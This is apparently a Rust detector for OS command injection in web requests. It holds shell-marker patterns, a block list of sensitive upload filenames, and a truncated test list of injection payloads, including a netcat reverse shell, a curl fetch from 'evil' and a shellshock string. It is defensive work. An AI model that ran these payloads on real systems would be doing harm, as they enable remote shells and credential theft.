//! OS command injection for Unix shells, `cmd.exe` and PowerShell. The value is
//! de-obfuscated the way a shell would read it (quotes and backslashes inside words,
//! `^` carets, `$IFS`, empty expansions, brace expansion `{cat,/etc/passwd}`), split into
//! commands at separators (`;`, `|`, `&`, newlines, `` ` ``, `$(`, `<(`), and each command's
//! first word is looked up among known binaries. What follows a separator is weighed by how
//! unambiguous the binary is and whether it has shell-like arguments; shellshock function
//! definitions, `/dev/tcp` and PowerShell download cradles are strong on their own.

use std::collections::HashMap;
use std::hash::{BuildHasherDefault, Hasher};

/// FNV-1a: command names are short and trusted-shaped; SipHash costs more than the lookup.
#[derive(Default)]
struct Fnv(u64);

impl Hasher for Fnv {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, bytes: &[u8]) {
        let mut h = if self.0 == 0 {
            0xcbf2_9ce4_8422_2325
        } else {
            self.0
        };
        for b in bytes {
            h ^= u64::from(*b);
            h = h.wrapping_mul(0x0100_0000_01b3);
        }
        self.0 = h;
    }
}

use super::shell_tricks;
use super::shell_words::{STRONG, WEAK, WRAPPERS};
use super::{Detector, Hit, Kind, Subject, Triggers};

/// Fixed strings that only shells and shell payloads contain.
const MARKERS: &[(&str, f32)] = &[
    ("/dev/tcp/", 0.9),
    ("/dev/udp/", 0.9),
    ("%comspec%", 0.85),
    ("cmd /c", 0.85),
    ("cmd.exe", 0.85),
    ("powershell -", 0.9),
    ("-encodedcommand", 0.85),
    ("downloadstring(", 0.9),
    ("net.webclient", 0.9),
    ("nc -e", 0.9),
    ("bash -i", 0.9),
    ("sh -c", 0.8),
    ("${ifs}", 0.85),
    ("$ifs$9", 0.85),
];

/// Upload names that overwrite a shell's, a tool's or an application's configuration, or
/// name kernel files (`.bashrc`, `.boto`, `wp-config.php`, `mtrr`): compared with the
/// whole base name, whitespace removed; entries ending in `.`, `-` or `_` are prefixes.
const RESTRICTED_UPLOADS: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_history",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zsh_history",
    ".cshrc",
    ".tcshrc",
    ".kshrc",
    ".ashrc",
    ".sh_history",
    ".boto",
    ".netrc",
    ".npmrc",
    ".yarnrc",
    ".pgpass",
    ".my.cnf",
    ".mylogin.cnf",
    ".s3cfg",
    ".htaccess",
    ".htpasswd",
    ".htdigest",
    ".user.ini",
    ".env",
    ".envrc",
    ".gitconfig",
    ".git-credentials",
    ".gitmodules",
    ".rhosts",
    ".forward",
    ".curlrc",
    ".wgetrc",
    ".vimrc",
    ".viminfo",
    ".screenrc",
    ".tmux.conf",
    ".xauthority",
    ".dockerenv",
    ".docker",
    ".aws",
    ".ssh",
    ".gnupg",
    ".terraformrc",
    ".credentials",
    ".secrets",
    ".mysql_history",
    ".psql_history",
    ".python_history",
    ".node_repl_history",
    ".google_authenticator",
    ".pearrc",
    ".gemrc",
    "wp-config.",
    "wp-config-",
    "wp-config_",
    "settings.php",
    "settings.local.php",
    "settings.inc.php",
    "default.settings.php",
    "config.php",
    "config.inc.php",
    "config.yml",
    "config.yaml",
    "config.ini",
    "config.toml",
    "parameters.php",
    "parameters.yml",
    "secrets.json",
    "secrets.yml",
    "secrets.yaml",
    "credentials.json",
    "web.config",
    "php.ini",
    "phpinfo.php",
    "env.php",
    "local.xml",
    "database.yml",
    "authorized_keys",
    "id_rsa",
    "id_ed25519",
    "crontab",
    "mtrr",
    "acpi",
    "kcore",
    "kmsg",
    "kallsyms",
    "sysrq-trigger",
    "cmdline",
    "cpuinfo",
    "meminfo",
    "iomem",
    "ioports",
    "slabinfo",
    "zoneinfo",
    "buddyinfo",
    "boot.ini",
    "win.ini",
    "system.ini",
    "desktop.ini",
];

/// True when an uploaded file's name (from a filename header or a multipart part) is one
/// of [`RESTRICTED_UPLOADS`].
fn restricted_upload(lower: &str) -> bool {
    let name: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
    let base = name.rsplit(['/', '\\']).next().unwrap_or(&name);
    let base = base.trim_end_matches(['.', '\0']);
    RESTRICTED_UPLOADS.iter().any(|r| {
        if r.ends_with(['.', '-', '_']) {
            base.starts_with(r) && base.len() > r.len()
        } else {
            base == *r
        }
    })
}

fn is_filename_header(s: &Subject<'_>) -> bool {
    s.kind == Kind::Filename
        || (s.kind == Kind::Header && {
            let n = s.name.as_bytes();
            let norm = |b: &u8| if matches!(b, b'_' | b'.') { b'-' } else { *b };
            let eq = |t: &str| n.len() == t.len() && n.iter().map(norm).eq(t.bytes());
            eq("x-filename") || eq("x-file-name") || eq("filename")
        })
}

/// Bash expansions that are a whole value and nothing else can mean: the directory stack
/// (`~+`, `~-`, `~-1`, `~+5`) and history designators (`!-1`, `!-1!-2`).
fn stack_or_history(lower: &str) -> bool {
    let t = lower.trim();
    let digits = |r: &str| r.bytes().all(|c| c.is_ascii_digit());
    if let Some(r) = t.strip_prefix("~+").or_else(|| t.strip_prefix("~-")) {
        return digits(r);
    }
    t.starts_with("!-") && t.split("!-").skip(1).all(|d| !d.is_empty() && digits(d))
}

#[derive(Debug)]
struct Rce {
    commands: HashMap<&'static str, bool, BuildHasherDefault<Fnv>>,
    /// One bit per (first byte, second byte) of every command name: most words are
    /// ruled out before hashing.
    starts: Box<[u64; 1024]>,
    markers: aho_corasick::AhoCorasick,
}

fn start_bit(a: u8, b: u8) -> (usize, u64) {
    let i = usize::from(a) << 8 | usize::from(b);
    (i >> 6, 1 << (i & 63))
}

pub(crate) fn build() -> Box<dyn Detector> {
    let mut commands = HashMap::default();
    for w in WEAK {
        commands.insert(*w, false);
    }
    for s in STRONG {
        commands.insert(*s, true);
    }
    let mut starts = Box::new([0u64; 1024]);
    for name in commands.keys() {
        if let [a, b, ..] = name.as_bytes() {
            let (word, bit) = start_bit(*a, *b);
            starts[word] |= bit;
        }
    }
    let markers = super::automaton(MARKERS.iter().map(|(m, _)| m));
    Box::new(Rce {
        commands,
        starts,
        markers,
    })
}

/// Removes what a shell (or cmd.exe) drops while reading words; bounded to 8 KiB.
fn deobfuscate(lower: &str) -> String {
    let s = &lower[..floor_char(lower, 8192)];
    let replaced;
    let s = if s.contains('$') {
        replaced = s
            .replace("${ifs}", " ")
            .replace("$ifs$9", " ")
            .replace("$ifs", " ")
            .replace("$@", "")
            .replace("$*", "")
            .replace("${}", "");
        replaced.as_str()
    } else {
        s
    };
    let mut out = String::with_capacity(s.len());
    let b = s.as_bytes();
    let word = |c: Option<&u8>| c.is_some_and(|c| c.is_ascii_alphanumeric());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let prev = if i > 0 { b.get(i - 1) } else { None };
        let next = b.get(i + 1);
        let dropped = match c {
            b'\\' => word(next) || next == Some(&b'/'),
            b'^' => true,
            b'\'' | b'"' => word(prev) || word(next),
            _ => false,
        };
        // `sh$xx`: an (unset) variable glued to a word.
        if c == b'$' && word(prev) && word(next) {
            i += 1;
            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                i += 1;
            }
            continue;
        }
        // `c$!at`, `c$?at`, `c$$at`: a special parameter glued inside a word.
        if c == b'$'
            && word(prev)
            && matches!(
                next,
                Some(b'!' | b'?' | b'-' | b'_' | b'$' | b'#' | b'0'..=b'9')
            )
        {
            i += 2;
            continue;
        }
        // `c${x}at`: an expansion of a (probably unset) variable inside a word.
        if c == b'$' && next == Some(&b'{') && word(prev) {
            if let Some(end) = s[i..].find('}') {
                i += end + 1;
                continue;
            }
        }
        if dropped {
            i += 1;
            continue;
        }
        let ch = s[i..].chars().next().unwrap_or(' ');
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

fn floor_char(s: &str, mut n: usize) -> usize {
    if n >= s.len() {
        return s.len();
    }
    while !s.is_char_boundary(n) {
        n -= 1;
    }
    n
}

/// The separator before a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    Start,
    Explicit,
    /// A backtick: also Markdown's inline code, so only known commands count.
    Substitution,
    /// `$(`, `<(`, `>(`: only shells write these.
    Dollar,
    /// A Markdown code fence (```` ```bash ````): what follows on its line is a language.
    Fence,
}

/// True when the first argument of a command looks like a shell argument (an option, a
/// path, a variable, a redirection), not a word of prose.
fn argish(rest: &str) -> bool {
    let r = rest.trim_start();
    let first = r.split(char::is_whitespace).next().unwrap_or("");
    // A dash alone (`--`, `-`) is prose punctuation, not an option.
    if !first.is_empty() && first.bytes().all(|c| c == b'-') {
        return false;
    }
    first.starts_with([
        '-', '/', '.', '$', '>', '<', '|', '~', '%', '\\', '{', '(', '&', ';',
    ]) || first.contains('/')
        || first.contains("://")
        || (first.len() > 1 && first.as_bytes()[1] == b':')
}

impl Rce {
    fn lookup(&self, word: &str) -> Option<bool> {
        // Every form tried below (the word, its base, its head) starts with the word's first
        // two bytes, unless the base is a single letter.
        if let [a, b, ..] = word.as_bytes() {
            let (i, bit) = start_bit(*a, *b);
            if self.starts[i] & bit == 0 && b.is_ascii_alphabetic() {
                return None;
            }
        }
        if let Some(s) = self.commands.get(word) {
            return Some(*s);
        }
        // `python3.10`, `gcc10.1`, `cmd.exe`.
        let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        let base = base.strip_suffix(".exe").unwrap_or(base);
        if !base.is_empty() && base != word {
            if let Some(s) = self.commands.get(base) {
                return Some(*s);
            }
        }
        // `ansible-config`, `chef-vault`: a tool's sub-binaries.
        let (head, _) = word.split_once('-')?;
        (head.len() >= 4)
            .then(|| self.commands.get(head).copied().filter(|s| *s))
            .flatten()
    }

    /// Confidence that a User-Agent is a typed command line (`ansible all -m ping`,
    /// `'cscli' alerts list`, `env --version`).
    fn agent_command(&self, lower: &str) -> Option<f32> {
        let t = lower.trim().trim_matches(['"', '\'']);
        let (first, rest) = t.split_once(' ')?;
        let first = first.trim_matches(['"', '\'']);
        let rest = rest.trim().trim_end_matches(['"', '\'']);
        if first.contains(['/', '(', ';'])
            || rest.is_empty()
            || rest.contains(['(', ';', '/']) && !argish(rest)
        {
            return None;
        }
        let words = rest.split_whitespace().count();
        let prose = rest.split_whitespace().any(|w| {
            matches!(
                w,
                "a" | "an"
                    | "the"
                    | "is"
                    | "are"
                    | "and"
                    | "or"
                    | "to"
                    | "of"
                    | "in"
                    | "on"
                    | "for"
                    | "with"
                    | "my"
                    | "by"
                    | "like"
            )
        });
        (self.lookup(first) == Some(true)
            && first.len() >= 3
            && words <= 6
            && !prose
            && (has_option(rest) || words >= 2 || first.contains('-')))
        .then_some(0.75)
    }

    fn command_score(&self, sep: Sep, segment: &str, kind: Kind, depth: usize) -> f32 {
        let seg = segment.trim_start_matches([' ', '\t', '!', '@', '(', '{']);
        let (word, rest) = seg
            .split_once(|c: char| {
                c.is_whitespace() || matches!(c, ',' | '<' | '>' | '(' | ')' | '"')
            })
            .map_or((seg, ""), |(w, r)| (w, r));
        if word.is_empty() || word.len() > 40 {
            return 0.0;
        }
        // `time ifconfig`, `nohup -x curl`, `$u wget`: the wrapped command decides.
        if (word.starts_with('$') || WRAPPERS.contains(&word)) && depth < 3 {
            let mut rest = rest.trim_start();
            while rest.starts_with('-') {
                let opt_end = rest.find(char::is_whitespace).unwrap_or(rest.len());
                rest = rest[opt_end..].trim_start();
                // An option's numeric value (`-l 100`).
                if rest.starts_with(|c: char| c.is_ascii_digit()) {
                    let e = rest.find(char::is_whitespace).unwrap_or(rest.len());
                    rest = rest[e..].trim_start();
                }
            }
            let inner = self.command_score(
                if sep == Sep::Start {
                    Sep::Explicit
                } else {
                    sep
                },
                rest,
                kind,
                depth + 1,
            );
            if inner > 0.0 {
                return inner.max(0.75);
            }
        }
        let pathy = word.contains('/') || word.contains('\\');
        let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
        // `/bin/`, `/sbin/`, `/usr/bin/`, `/usr/local/bin/`, `/usr/sbin/`, scratch directories.
        let bin_dir = pathy
            && ["/bin/", "/sbin/", "system32\\", "/tmp/", "/dev/shm/"]
                .iter()
                .any(|d| word.contains(d));
        let known = self.lookup(name);
        // `` `sleep 5` ``, `$(sleep 5)`: the probe of time-based blind injection (after `;`
        // only when another separator closes it: see `delay_probe`).
        let delay = matches!(sep, Sep::Substitution | Sep::Dollar) && delay_probe(name, rest);
        let args = argish(rest) || delay;
        let end = rest.trim().is_empty();
        match (sep, known) {
            (Sep::Substitution, Some(true)) if args || (end && name.len() > 3) => 0.9,
            (Sep::Substitution, Some(false)) if args => 0.85,
            (Sep::Substitution, Some(_)) => 0.6,
            (Sep::Dollar, Some(_)) => 0.9,
            // `$(document)`, `$(name)`: jQuery and template syntax look the same.
            (Sep::Dollar, None) => 0.0,
            (_, _) if bin_dir && !name.is_empty() => 0.88,
            (Sep::Explicit, Some(true)) if args || end || name.len() > 3 => 0.9,
            // `;nc 10.0.0.1 4444 -e /bin/sh`: a shell handed to the command.
            (Sep::Explicit, Some(_)) if shell_argument(rest) => 0.88,
            (Sep::Explicit, Some(true)) => 0.6,
            (Sep::Explicit, Some(false)) if args => 0.85,
            (Sep::Explicit, Some(false)) if end && name.len() <= 4 => 0.72,
            (Sep::Explicit, Some(false)) => 0.45,
            (Sep::Start, Some(true)) if args && kind != Kind::Header => 0.8,
            (Sep::Start, Some(true)) if has_option(rest) && kind != Kind::Header => 0.78,
            (Sep::Start, Some(true)) if end && name.len() > 4 && kind == Kind::ArgValue => 0.72,
            (Sep::Start, Some(false)) if args && rest.trim_start().starts_with('/') => 0.78,
            (Sep::Start, Some(false)) if args => 0.55,
            _ if pathy && known.is_some() => 0.75,
            _ => 0.0,
        }
    }
}

impl Detector for Rce {
    fn triggers(&self) -> Triggers {
        let mut t = Triggers::bytes(b";|&`$(\n\r\\{<>'\"^*?[~/%-");
        t.words = STRONG
            .iter()
            .chain(WRAPPERS)
            .copied()
            .filter(|w| w.len() >= 5 || WRAPPERS.contains(w))
            .collect();
        t.words.extend(["if ", "alias"]);
        t.words.extend(RESTRICTED_UPLOADS);
        t
    }

    fn inspect<'a>(&self, s: &Subject<'a>) -> Option<Hit<'a>> {
        if is_filename_header(s) && restricted_upload(s.lower) {
            return Some(Hit::new(0.8, s.text));
        }
        if matches!(
            s.kind,
            Kind::FileContent | Kind::XmlDoctype | Kind::Filename
        ) || s.lower.len() < 2
        {
            return None;
        }
        if matches!(s.kind, Kind::ArgValue | Kind::Cookie | Kind::Header)
            && s.bytes.any(b"~!")
            && stack_or_history(s.lower)
        {
            return Some(Hit::new(0.75, s.text));
        }
        let lower = s.lower;
        let mut best = (0.0f32, 0usize, 0usize);
        let mut take = |c: f32, a: usize, e: usize| {
            if c > best.0 {
                best = (c, a, e);
            }
        };
        // Shellshock: a function definition where a value should be.
        if s.bytes.has(b'(') {
            if let Some(k) = lower.find("()") {
                let after = lower[k + 2..].trim_start();
                if let Some(body) = after.strip_prefix('{') {
                    let body = body.trim_start();
                    let at_start = lower[..k].trim().is_empty();
                    if at_start || body.starts_with(":;") || body.starts_with(": ;") {
                        take(0.95, k, (k + 60).min(lower.len()));
                    }
                }
            }
        }
        if s.bytes.has(b'(') && s.bytes.has(b'{') {
            if let Some(c) = fork_bomb(lower) {
                take(c, 0, lower.len().min(60));
            }
        }
        for m in self.markers.find_iter(lower) {
            let c = MARKERS[m.pattern().as_usize()].1;
            take(c, m.start(), (m.start() + 60).min(lower.len()));
        }
        // `for /f %i in (set) do command` (cmd.exe loops).
        if s.bytes.has(b'%') {
            if let Some(k) = lower.find("for ") {
                let rest = super::clip(lower, k, k + 200);
                if rest.contains('%') && rest.contains(" in (") && rest.contains(" do ") {
                    take(0.85, k, (k + 60).min(lower.len()));
                }
            }
        }
        // `alias x=curl`: a new name for a command, then its use.
        if let Some(k) = s.bytes.has(b'=').then(|| lower.find("alias ")).flatten() {
            if lower[k..].contains('=') {
                take(0.8, k, (k + 40).min(lower.len()));
            }
        }
        // A User-Agent that is a command line rather than product tokens (`Mozilla/5.0`,
        // `curl/8.0`): a tool name without a version, then arguments.
        if s.kind == Kind::Header && s.name == "user-agent" {
            if let Some(c) = self.agent_command(lower) {
                take(c, 0, lower.len().min(80));
            }
        }
        // Without shell syntax only a command at the very start can be one; a URL path is
        // never a command line on its own (`/admin/users`, `/bin/items`).
        if !s.bytes.any(b";|&`$(\n\r\\{<>'\"^*?[~") {
            if s.kind == Kind::Path {
                let (c, a, e) = best;
                return (c > 0.0).then(|| Hit::at(c, s.text, a, e));
            }
            let c = self.command_score(Sep::Start, lower, s.kind, 0);
            // One word alone names a program rather than running it; only a path into a
            // binary directory (`/usr/bin/visudo`) stays suspicious.
            let c = if s.bytes.has(b' ') {
                c
            } else if s.bytes.has(b'/') {
                c.min(0.72)
            } else {
                c.min(0.6)
            };
            take(c, 0, lower.len());
            if let Some(c) = cmd_if(lower) {
                take(c, 0, lower.len().min(80));
            }
            let (c, a, e) = best;
            return (c > 0.0).then(|| Hit::at(c, s.text, a, e));
        }
        let mut deob = deobfuscate(lower);
        if s.bytes.has(b'|') && s.bytes.has(b'\n') {
            if let Some(table) = markdown_table(&deob) {
                deob = table;
            }
        }
        let d = deob.as_str();
        if s.bytes.any(b"'\"\\^`$<>") {
            if let Some((c, k)) =
                shell_tricks::obfuscated_command(lower, |w| self.lookup(w).is_some())
            {
                take(c, k, (k + 60).min(lower.len()));
            }
        }
        if s.bytes.has(b'.') {
            if let Some((c, k)) = shell_tricks::sqlite_dot_command(lower) {
                take(c, k, (k + 60).min(lower.len()));
            }
        }
        // One command line typed and entered: a known binary with arguments, then the
        // newline that submits it (`ansible-vault decrypt secret⏎`, `'cscli' alerts list⏎`).
        if let Some(line) = d.strip_suffix('\n') {
            let line = line.strip_suffix('\r').unwrap_or(line).trim();
            let mut words = line.split(' ').filter(|w| !w.is_empty());
            let n = line.split_whitespace().count();
            // English function words make it a sentence about the tool instead.
            let prose = line.split_whitespace().any(|w| {
                matches!(
                    w,
                    "a" | "an"
                        | "the"
                        | "is"
                        | "are"
                        | "was"
                        | "were"
                        | "be"
                        | "and"
                        | "or"
                        | "but"
                        | "to"
                        | "of"
                        | "in"
                        | "on"
                        | "at"
                        | "for"
                        | "with"
                        | "my"
                        | "i"
                        | "you"
                        | "it"
                        | "its"
                        | "this"
                        | "that"
                        | "how"
                        | "what"
                        | "why"
                        | "not"
                        | "so"
                        | "very"
                        | "too"
                        | "really"
                        | "please"
                        | "can"
                        | "do"
                )
            });
            if !line.contains(['\n', '\r', ';', '|', '&'])
                && (2..=8).contains(&n)
                && !prose
                && words
                    .next()
                    .is_some_and(|w| self.lookup(w) == Some(true) && w.len() >= 3)
            {
                take(0.75, 0, lower.len().min(80));
            }
        }
        // A whole value that is one backticked command (`` `id` ``, `` `uname -a` ``): a
        // substitution with nothing around it to be Markdown prose.
        if let Some(inner) = lower
            .trim()
            .strip_prefix('`')
            .and_then(|r| r.strip_suffix('`'))
        {
            let word = inner.split_whitespace().next().unwrap_or("");
            if !inner.contains('`') && self.lookup(word) == Some(true) {
                take(0.75, 0, lower.len().min(80));
            }
        }
        // `\ls`: a backslash before a command skips the user's aliases of it.
        if let Some(rest) = lower.strip_prefix('\\') {
            let word = rest
                .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
                .next()
                .unwrap_or("");
            if self.lookup(word) == Some(true) && rest[word.len()..].trim().is_empty()
                || self.lookup(word) == Some(true) && argish(&rest[word.len()..])
            {
                take(0.75, 0, lower.len().min(80));
            }
        }
        let b = d.as_bytes();
        // Walk commands separated by shell control operators.
        let mut seg_start = 0;
        let mut sep = Sep::Start;
        let mut i = 0;
        let mut segments = 0;
        while i <= b.len() && segments < 256 {
            let (is_sep, next_sep, skip) = match b.get(i) {
                None => (true, Sep::Start, 1),
                Some(b';' | b'\n' | b'\r' | b'|' | b'&') => (true, Sep::Explicit, 1),
                Some(b'`') if is_fence(d, i) => (true, Sep::Fence, 3),
                Some(b'`') => (true, Sep::Substitution, 1),
                Some(b'$') if b.get(i + 1) == Some(&b'(') => (true, Sep::Dollar, 2),
                Some(b'<' | b'>') if b.get(i + 1) == Some(&b'(') => (true, Sep::Dollar, 2),
                Some(b'{')
                    if b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic())
                        && i > 0
                        && matches!(b[i - 1], b' ' | b';' | b'&' | b'|' | b'=') =>
                {
                    (true, Sep::Explicit, 1)
                }
                _ => (false, Sep::Start, 0),
            };
            if is_sep {
                let segment = &d[seg_start..i.min(d.len())];
                let c = if sep == Sep::Fence || sep == Sep::Start && s.kind == Kind::Path {
                    0.0
                } else {
                    self.command_score(sep, segment, s.kind, 0)
                };
                // `;sleep 5;`, `|sleep 10|`: a delay between two separators.
                let c = if sep == Sep::Explicit
                    && matches!(b.get(i), Some(b';' | b'|' | b'&'))
                    && segment
                        .trim_start()
                        .split_once(char::is_whitespace)
                        .is_some_and(|(name, rest)| delay_probe(name, rest))
                {
                    c.max(0.85)
                } else {
                    c
                };
                let c = if s.kind == Kind::Header && s.name == "user-agent" {
                    c - 0.15
                } else {
                    c
                };
                take(c, 0, lower.len().min(80));
                segments += 1;
                seg_start = (i + skip).min(d.len());
                sep = next_sep;
                i += skip;
                continue;
            }
            i += 1;
        }
        // Brace expansion: `{cat,/etc/passwd}`, `c{a,oun}t`, `{,ifconfig}`.
        if let Some(open) = d.find('{') {
            if let Some(len) = d[open..].find('}') {
                let inner = &d[open + 1..open + len];
                if inner.contains(',') && !inner.contains(' ') {
                    let prefix = d[..open]
                        .rsplit(|c: char| !c.is_ascii_alphanumeric())
                        .next()
                        .unwrap_or("");
                    let suffix = d[open + len + 1..]
                        .split(|c: char| !c.is_ascii_alphanumeric())
                        .next()
                        .unwrap_or("");
                    for alt in inner.split(',') {
                        // `{,$'whoami',}`: ANSI-C quoting of an alternative.
                        let alt = alt.trim_start_matches('$');
                        let word = format!("{prefix}{alt}{suffix}");
                        if self.lookup(&word).is_some() && !word.is_empty() {
                            take(0.8, open, (open + len + 1).min(lower.len()));
                        }
                    }
                }
            }
        }
        // Bash-only expansions: `$((..))`, `$[..]`, `${var#..}`.
        for (k, _) in d.match_indices('$').take(32) {
            let rest = &d[k + 1..];
            if rest.starts_with("((") || rest.starts_with('[') {
                take(0.8, k, (k + 30).min(lower.len()));
            } else if let Some(inner) = rest.strip_prefix('{') {
                let name_len = inner
                    .bytes()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
                    .count();
                if name_len > 0 && inner[name_len..].starts_with(['#', '%', '/', '^', ',', '@'])
                    || inner.starts_with('`')
                    || inner.starts_with("$(")
                {
                    take(0.8, k, (k + 30).min(lower.len()));
                }
            }
        }
        // Globs standing in for system paths: `/etc/pas[s]wd`, `/???/??t`.
        if s.bytes.any(b"?*[") {
            // Each word, and the alternatives of a brace expansion in it (`{,/?s?/?i?/c?t,}`),
            // while `/etc/pa{s,}s?d` stays whole.
            let words = d
                .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&'))
                .take(64)
                .flat_map(|w| {
                    let braced = w.contains(['{', ',', '}']);
                    std::iter::once(w).chain(
                        braced
                            .then(|| w.split(['{', ',', '}']))
                            .into_iter()
                            .flatten(),
                    )
                })
                .take(256);
            for word in words {
                if word.starts_with('/') && word.contains(['?', '*', '[']) {
                    let segs: Vec<&str> = word.split('/').filter(|x| !x.is_empty()).collect();
                    let sys = segs.first().is_some_and(|f| {
                        matches!(
                            *f,
                            "etc"
                                | "bin"
                                | "usr"
                                | "proc"
                                | "dev"
                                | "var"
                                | "tmp"
                                | "sbin"
                                | "root"
                                | "home"
                                | "opt"
                                | "lib"
                        )
                    });
                    let glob_dir = segs.first().is_some_and(|f| f.contains(['?', '*', '[']));
                    if (sys || glob_dir) && segs.len() >= 2 || word.starts_with("/[") {
                        take(0.8, 0, lower.len().min(80));
                    }
                }
            }
        }
        if let Some(c) = cmd_if(d).or_else(|| cmd_if(lower)) {
            take(c, 0, lower.len().min(80));
        }
        // Output redirected into a system path: `>/tmp/x`, `>> /etc/crontab`.
        for (k, _) in d.match_indices('>').take(32) {
            let target = d[k + 1..].trim_start_matches('>').trim_start();
            if [
                "/tmp/", "/etc/", "/var/", "/dev/", "/root/", "/home/", "/usr/", "/bin/",
            ]
            .iter()
            .any(|p| target.starts_with(p))
            {
                take(0.8, k, (k + 40).min(lower.len()));
            }
        }
        // Perl interpolation of code: `@{[ system 'id' ]}`.
        if let Some(k) = d.find("@{") {
            if d[k + 2..].trim_start().starts_with('[') {
                take(0.85, k, (k + 40).min(lower.len()));
            }
        }
        let (c, a, e) = best;
        (c > 0.0).then(|| Hit::at(c, s.text, a.min(s.text.len()), e.min(s.text.len())))
    }
}

/// True when a Markdown code fence starts at `i`: three backticks at the start of a line,
/// then an optional language name and the end of the line.
fn is_fence(d: &str, i: usize) -> bool {
    let line_start = d[..i].trim_end_matches([' ', '\t']);
    if !(line_start.is_empty() || line_start.ends_with(['\n', '\r'])) || !d[i..].starts_with("```")
    {
        return false;
    }
    let rest = &d[i + 3..];
    let label = rest
        .bytes()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'+' | b'#' | b'.'))
        .count();
    rest[label..].trim_start_matches([' ', '\t']).is_empty()
        || rest[label..]
            .trim_start_matches([' ', '\t'])
            .starts_with(['\n', '\r'])
}

/// `text` with its Markdown table rows blanked, when it holds a table (a delimiter row
/// such as `|---|:--:|`): pipes there separate cells, and cells are not command lines.
fn markdown_table(text: &str) -> Option<String> {
    let delimiter = text.lines().any(|l| {
        let l = l.trim();
        l.starts_with('|')
            && l.matches('-').count() >= 3
            && l.bytes()
                .all(|c| matches!(c, b'|' | b'-' | b':' | b' ' | b'\t'))
    });
    if !delimiter {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    for (i, line) in text.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
        }
        let t = line.trim();
        if !(t.starts_with('|') && t.ends_with('|')) {
            out.push_str(line);
        }
    }
    Some(out)
}

/// A fork bomb: a shell function defined at the start of the value that pipes into or
/// backgrounds itself, then is called (`:(){ :|:& };:`, `f(){ f|f& };f`).
fn fork_bomb(lower: &str) -> Option<f32> {
    let t = lower.trim_start();
    let k = t.find('(')?;
    let name = t[..k].trim();
    let valid = !name.is_empty()
        && name.len() <= 32
        && name
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b':' | b'.' | b'-'));
    let rest = t[k + 1..].trim_start().strip_prefix(')')?.trim_start();
    let body = rest.strip_prefix('{')?;
    let end = body.find('}')?;
    let (inner, after) = (&body[..end], &body[end + 1..]);
    let calls_itself = inner.matches(name).count() >= 2 || inner.contains(&format!("{name}()"));
    let spawns = inner.contains('|') || inner.contains('&');
    let called = after
        .trim_start()
        .strip_prefix(';')
        .is_some_and(|a| a.trim_start().starts_with(name));
    (valid && calls_itself && spawns && called).then_some(0.85)
}

/// True when `rest` holds a command-line option (`-m`, `--list`).
/// `sleep 5` and nothing more (a whole number of seconds).
fn delay_probe(name: &str, rest: &str) -> bool {
    let mut words = rest.split_whitespace();
    matches!(name, "sleep" | "usleep")
        && words
            .next()
            .is_some_and(|w| !w.is_empty() && w.len() <= 8 && w.bytes().all(|c| c.is_ascii_digit()))
        && words.next().is_none()
}

/// An argument that is a shell (`/bin/sh`, `/bin/bash`, `cmd.exe`): a command told to run one.
fn shell_argument(rest: &str) -> bool {
    rest.split_whitespace().take(16).any(|w| {
        let base = w.rsplit(['/', '\\']).next().unwrap_or(w);
        let pathy = w.contains(['/', '\\']);
        pathy && matches!(base, "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash")
            || matches!(base, "cmd.exe" | "powershell.exe" | "pwsh.exe")
    })
}

fn has_option(rest: &str) -> bool {
    rest.split_whitespace().any(|w| {
        let name = w.trim_start_matches('-');
        w.starts_with('-')
            && w.len() - name.len() <= 2
            && name.starts_with(|c: char| c.is_ascii_alphanumeric())
    })
}

/// cmd.exe `IF` statements: `if [/i] [not] exist|defined|errorlevel X cmd`, `if a==b cmd`,
/// `if %x% equ 1 cmd`. Scored only when the value starts with one.
fn cmd_if(d: &str) -> Option<f32> {
    let t = d.trim_start();
    let rest = t.strip_prefix("if")?;
    // Quoted operands (`if "a b" == "a b" echo`) are one word each.
    let unquoted: String;
    let rest = if rest.contains('"') {
        let mut out = String::with_capacity(rest.len());
        let mut quoted = false;
        for c in rest.chars().take(512) {
            match c {
                '"' => {
                    quoted = !quoted;
                    out.push('"');
                }
                c if quoted && c.is_whitespace() => out.push('_'),
                c => out.push(c),
            }
        }
        unquoted = out;
        unquoted.as_str()
    } else {
        rest
    };
    if !rest.starts_with([' ', '/', '\t', '(', '"', '%', '[']) {
        return None;
    }
    let mut words = rest
        .split_whitespace()
        .filter(|w| *w != "/i" && *w != "not")
        .peekable();
    let first = words.next()?;
    let first = first.strip_prefix("/i").unwrap_or(first);
    if matches!(first, "exist" | "defined" | "errorlevel" | "cmdextversion") {
        return Some(0.8);
    }
    if first.contains("==") || words.peek().is_some_and(|w| w.starts_with("==")) {
        return Some(0.75);
    }
    let op = words.next()?;
    matches!(op, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq").then_some(0.8)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::{arg, score};

    #[test]
    fn flags_separated_and_substituted_commands() {
        let d = build();
        for v in [
            "; cat /etc/passwd",
            "x|id",
            "1 && whoami",
            "`uname -a`",
            "`id`",
            ";sleep 5;",
            ";sleep\t5;",
            "`sleep 5`",
            ";nc 10.0.0.1 4444 -e /bin/sh",
            "cat /etc/pa{s,}s?d",
            "{,/?s?/?i?/c?t,/e??/p??s??,}",
            "$(curl http://evil/x.sh)",
            "; c'a't /etc/pa's's'wd",
            "1;cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "() { :; }; /bin/bash -c 'id'",
